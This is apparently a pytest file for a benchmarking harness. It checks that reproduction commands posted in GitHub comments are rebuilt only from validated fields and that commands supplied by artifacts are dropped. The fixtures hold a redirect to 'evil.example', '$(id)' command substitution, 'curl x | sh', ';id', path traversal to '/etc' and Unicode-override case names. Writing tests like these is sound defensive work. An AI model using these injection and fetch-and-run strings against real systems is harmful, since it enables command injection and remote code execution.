"""Which commands stand in a comment: those that are made of checked figures, and none that an artifact brings."""

import glob
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from harness.cli import run_command_line
from harness.github.posting import comparison_with_own_commands, report_with_own_commands
from harness.records.comparison import Comparison
from harness.report.run_report import Report, build_report
from harness.store.folders import COMPARISON
from tests.report.builders import make_comparison, make_row, make_small_run, make_timed, with_cases

PUBLISHED = Path(__file__).parents[2] / "results/published/esrgan"
HASH = "0123456789ab"
CASE = "net/tuned@cpu"
SUITE = "suites/esrgan.toml"
COMMITS = ("9b05f1760b" * 4, "0a12f9c0ff" * 4)
EVIL = ("harness", "github", "post", "--api-url", "https://evil.example", "$(id)")


def compared(case: str = CASE, base: Any = None, head: Any = None, **given: Any) -> Comparison:
    """A comparison of two releases with one row, as a comment has it; all commands of the artifact are hostile."""
    row = make_timed(case, 1.0, 1.2, "regressed", repro=(shlex.join(EVIL), f"# base: module {HASH}, curl x | sh"))
    made = make_comparison([row])
    facts = {"label": "iree==3.12.0", "run": "one", "suite": SUITE}
    base = replace(made.base, **{**facts, **(base or {})})
    head = replace(made.head, **{**facts, "label": "iree==3.13.0", "run": "two", **(head or {})})
    return comparison_with_own_commands(replace(made, **{"base": base, "head": head, "command": EVIL, **given}))


RELEASES = f"harness compare iree==3.12.0 iree==3.13.0 --suite {SUITE}"


@pytest.mark.parametrize(
    ("given", "command"),
    [
        ({}, RELEASES),
        ({"base": {"commit": COMMITS[0]}, "head": {"commit": COMMITS[1]}},
         f"harness compare {COMMITS[0]} {COMMITS[1]} --suite {SUITE}"),
        ({"base": {"label": "/home/me/one"}, "head": {"label": "two"}}, "harness compare results/one results/two"),
        ({"within": True}, "harness compare --within results/two"),
        # What has another form gets no command.
        ({"base": {"label": "iree==3.12.0;id"}}, ""),
        ({"head": {"label": "iree==3.13.0+local.build.9f3a2c"}}, ""),
        ({"head": {"label": "here", "run": "../x"}}, ""),
        ({"head": {"label": "here", "run": "--api-url=x"}, "within": True}, ""),
        *(({"head": {"suite": suite}}, "")
          for suite in ("https://evil/x.toml", "../x.toml", "@x.toml", "/x", "a b.toml")),
    ],
)  # fmt: skip
def test_both_sides_are_compared_again_and_a_row_of_it_alone(given: dict[str, Any], command: str) -> None:
    found = compared(**given)
    assert shlex.join(found.command) == command
    assert found.rows[0].repro == ((f"{command} --filter {CASE}", f"# base: module {HASH}") if command else ())


def test_a_case_that_no_harness_names_has_no_command_and_a_shell_gets_each_name_whole() -> None:
    for case in ("--x/y@cpu", "@x/y@cpu", "a\u202eb/y@cpu", "a\nid/y@cpu", ""):
        assert compared(case).rows[0].repro == ()
    odd = "net/[a]$(id);'@cpu"
    assert shlex.split(compared(odd).rows[0].repro[0])[-1] == glob.escape(odd)


def test_what_a_row_is_decides_its_options_and_what_prepares_trees_is_named_only() -> None:
    timed = make_timed(CASE, 1.0, 1.2, "regressed", metric="compile-time", control=True)
    counted = make_row(CASE, "dispatches", "regressed", repro=("harness compare a b",))
    reason = make_timed(CASE, 1.0, 1.2, "missing", repro=(EVIL[0], "# head: was never compiled"))
    rows = compared(rows=(timed, counted, reason), command=("harness", "--prepare", "pip install x")).rows
    note = "# and --prepare, as the workflow has it"
    assert [row.repro for row in rows] == [
        (f"{RELEASES} --filter {CASE} --controls 1 --metric compile-time {note}",),
        (),
        (f"{RELEASES} --filter {CASE} {note}", "# head: was never compiled"),
    ]


def test_names_and_settings_that_lead_away_are_left_out_and_a_runs_cases_are_run_again_with_its_releases() -> None:
    kept = compared(id="../x", head={"suite": "--results=/etc"})
    assert (kept.id, kept.head.suite) == ("", "./--results=/etc")

    def own(toolchain: str = "3.13.0", **facts: Any) -> Report:
        """The report of a run as a comment has it, whose header says so."""
        run = with_cases(make_small_run(), toolchain=toolchain)
        return report_with_own_commands(build_report(replace(run, header=replace(run.header, **facts))))

    header = own(id="a b", suite="@x", command=EVIL, settings={"fleet": "tls://evil.example"}).header
    assert (header.id, header.suite, header.command, header.settings) == ("", "./@x", (), {})
    row = next(iter(own().rows()))
    assert row.repro == (f"harness run {SUITE} --filter {shlex.quote(glob.escape(row.case))}",)
    asked = ("harness", "run", "--toolchain", "3.13.0")
    assert own(command=asked).header.command == ("harness", "run", SUITE, "--toolchain", "3.13.0")
    assert own("--x", command=asked).header.command == ()


def test_a_real_comparison_keeps_its_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    arguments = ["compare", "--within", str(PUBLISHED), "--no-remeasure", "--results", str(tmp_path)]
    monkeypatch.setattr("sys.argv", ["harness", *arguments])  # from which it is recorded
    run_command_line(arguments)
    (folder,) = (folder for folder in tmp_path.iterdir() if (folder / "comparison.json").is_file())
    kept = comparison_with_own_commands(COMPARISON.load(folder))
    assert kept.command == ("harness", "compare", "--within", f"results/{kept.head.run}")
    assert any(len(row.repro) == 3 for row in kept.rows)
